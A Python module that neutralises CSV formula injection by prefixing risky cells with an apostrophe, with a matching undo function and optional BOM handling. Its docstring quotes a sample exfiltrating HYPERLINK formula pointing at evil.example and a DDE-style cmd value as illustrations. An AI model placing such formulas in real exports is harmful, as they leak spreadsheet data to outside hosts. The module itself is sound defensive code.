"""CSV files that are safe to open in a spreadsheet: the one writer every CSV download uses.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula ("CSV injection": a measure named
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would run on the reader's machine).
Such a cell is written with a leading apostrophe (``'=HYPERLINK(…)``), which spreadsheets
show as text, as OWASP recommends.

Numbers are data, not formulas: a cell that is entirely a plain number (``-3.5``,
``+2``, ``1e-3``; a Python int, float or Decimal) is written as it is, so negative
values stay numbers in open data. Everything else that starts with a trigger character is
prefixed, including ``-2+3`` or ``-1+cmd|...`` (not a plain number).

A number as a page shows it (``-1,234.5``, ``-$12``, ``-12%``) is a number too, not a
formula, and stays as it is.

The neutralisation is undone exactly by :func:`undo` (the import reads CSV cells through
it): a text that itself starts with an apostrophe before a trigger (``'=x``) gets a second
one, so ``undo(safe_cell(text)) == text`` for every text.

Encoding: UTF-8 always. The downloads meant for Excel (staff exports, the report
appendix) start with a byte-order mark (``writer(out, bom=True)``, :data:`BOM`), without
which Excel reads UTF-8 as the local code page and garbles every accent; the public,
machine-readable CSV has none (a BOM breaks naive parsers, and RFC 4180 readers expect
none).

Use :func:`writer` instead of ``csv.writer``; :func:`safe_cell` for one value.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"
_PLAIN_NUMBER = re.compile(
    r"[+-]?\$?(\d{1,3}(,\d{3})+|\d+)(\.\d*)?([eE][+-]?\d+)?%?|[+-]?\$?\.\d+([eE][+-]?\d+)?%?"
)


def _needs_prefix(text: str) -> bool:
    if text.startswith(TRIGGERS):
        return not _PLAIN_NUMBER.fullmatch(text)
    return text.startswith("'") and _needs_prefix(text[1:])


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell no spreadsheet runs as a formula."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    return "'" + text if _needs_prefix(text) else text


def undo(text: str) -> str:
    """A cell's text as it was before :func:`safe_cell` (for the import of a CSV)."""
    if text.startswith("'") and _needs_prefix(text[1:]):
        return text[1:]
    return text


class SafeWriter:
    """``csv.writer`` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, *, bom: bool = False, **kwargs: Any) -> SafeWriter:
    """A safe writer on the text stream ``out`` (at its start); ``bom`` for the downloads
    meant for Excel."""
    if bom:
        out.write(BOM)
    return SafeWriter(out, **kwargs)
